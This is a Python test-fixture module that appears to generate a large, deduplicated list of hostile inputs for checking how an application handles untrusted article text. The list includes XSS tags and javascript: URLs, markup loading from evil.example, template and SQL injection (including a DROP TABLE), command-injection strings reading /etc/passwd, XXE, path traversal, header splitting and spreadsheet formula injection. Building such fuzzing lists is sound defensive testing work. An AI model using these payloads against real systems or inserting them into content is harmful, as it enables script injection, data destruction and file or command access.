"""What hostile articles may hold: each tries to run something, to get out of where it is written, or to break what reads it."""

# ruff: noqa: E501

from __future__ import annotations

from itertools import product

_CODE = "alert(1)"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "select autofocus",
    "iframe",
    "object data=x",
    "marquee",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerover", "onanimationstart", "onbegin")
_BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</a>",
    "</mark>",
    "</bdi>",
    "</td></tr></table>",
    "\x00",
)
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "javascript://example.org/%0aalert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)",
    "file:///etc/passwd", "blob:https://example.org/1", "view-source:javascript:alert(1)", "//evil.example/x.js", "\\\\evil.example\\x",
    "https://user:password@evil.example/", "https://evil.example/\" onmouseover=\"alert(1)", "https://evil.example/' onmouseover='alert(1)",
    "https://evil.example/><script>alert(1)</script>", "https:evil.example", "http://[::1", "http://evil.example:99999999/", "intent://evil#Intent;end",
    "filesystem:https://evil.example/", "jar:https://evil.example!/x", "feed:javascript:alert(1)", "https://evil.example/\u202egpj.exe",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "` onmouseover=`alert(1)", '" style="position:fixed;inset:0',
    '" hx-get="/api/v1/facts" hx-trigger="load" hx-target="body', "' hx-on:load='alert(1)", '" data-planted="1', '" id="planted', '" srcdoc="<script>',
    '"><a href="javascript:alert(1)" id=planted>x</a>', "x onclick=alert(1) y", '" formaction="javascript:alert(1)', '" href="javascript:alert(1)',
)  # fmt: skip
_MARKUP = (
    "<x-planted>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=q>", "<style>*{display:none}</style>", "<style>@import'//evil.example';</style>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext></mtext><mglyph><style></math><img src=x onerror=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<template><script>alert(1)</script></template>", "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<embed src=javascript:alert(1)>", "<isindex action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x", "<img src=//evil.example/pixel.gif>", "<img srcset='//evil.example/a 1x'>", "<object type=text/html data=//evil.example>",
    "<scr<script>ipt>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>", "<<script>alert(1)//<</script>",
    "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "<!--<img src='--><img src=x onerror=alert(1)>'>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "<img src=x:alert(alt) onerror=eval(src) alt=1>", "<div hx-get=/news hx-trigger=load>x</div>",
    "<div data-hx-on:load=alert(1)>x</div>", "<p id=main>x", "<p id=found>x", "<form id=q>", "<a name=htmx>", "<img name=body>",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% include '/etc/passwd' %}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}",
    "@(7*7)", "[[7*7]]", "%(value)s", "%s%s%s%n", "{value}", "{0.__class__}", "{self._TemplateReference__context}", "$(id)", "`id`", ";id|cat /etc/passwd",
)  # fmt: skip
_QUERIES = (
    "' OR '1'='1", "' OR 1=1 --", '" OR ""="', "'; DROP TABLE facts; --", "1; SELECT load_extension('x')", "' UNION SELECT sql FROM sqlite_master --", "%' --", "\\'; --", "NULL", "NEAR(a b)",
    "a AND", '"unclosed', "facts MATCH 'x'", "search:*", "-", "*", "^", "a* OR b*", "(((((", "x' AND randomblob(1000000000) AND '",
)  # fmt: skip
_TEXTS = (
    "\u202eevil\u202c", "\u2066left\u2069\u2067right\u2069", "\u200bzero\u200dwidth\ufeff", "a\x00b", "\x1b[31mred\x1b[0m", "\x07\x08\x0b\x0c\x7f\x85\u2028\u2029", "Z\u0301\u0302\u0303\u0304\u0305" * 40,
    "W" * 5_000, "字" * 3_000, "&" * 500, "<" * 500, '"' * 500, "../../../../etc/passwd", "..\\..\\windows\\win.ini", "CON", ".", "..", "/", "%00", "%2e%2e%2f", "\ufffe\uffff", "🏥" * 400,
    "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>", "=HYPERLINK(\"http://evil.example\")", "+cmd|' /C calc'!A0", "@SUM(1)", "__proto__", "constructor", "undefined", "true",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(f"<{tag} {event}={_CODE}>" for tag, event in product(_TAGS, _EVENTS)),
            *(f"{way}<script>{_CODE}</script>" for way in _BREAKS),
            *(f"{way}<img src=x onerror={_CODE}>" for way in _BREAKS),
            *_SCHEMES,
            *_ATTRIBUTES,
            *_MARKUP,
            *_TEMPLATES,
            *_QUERIES,
            *_TEXTS,
        ]
    )
)
"""All of them different."""
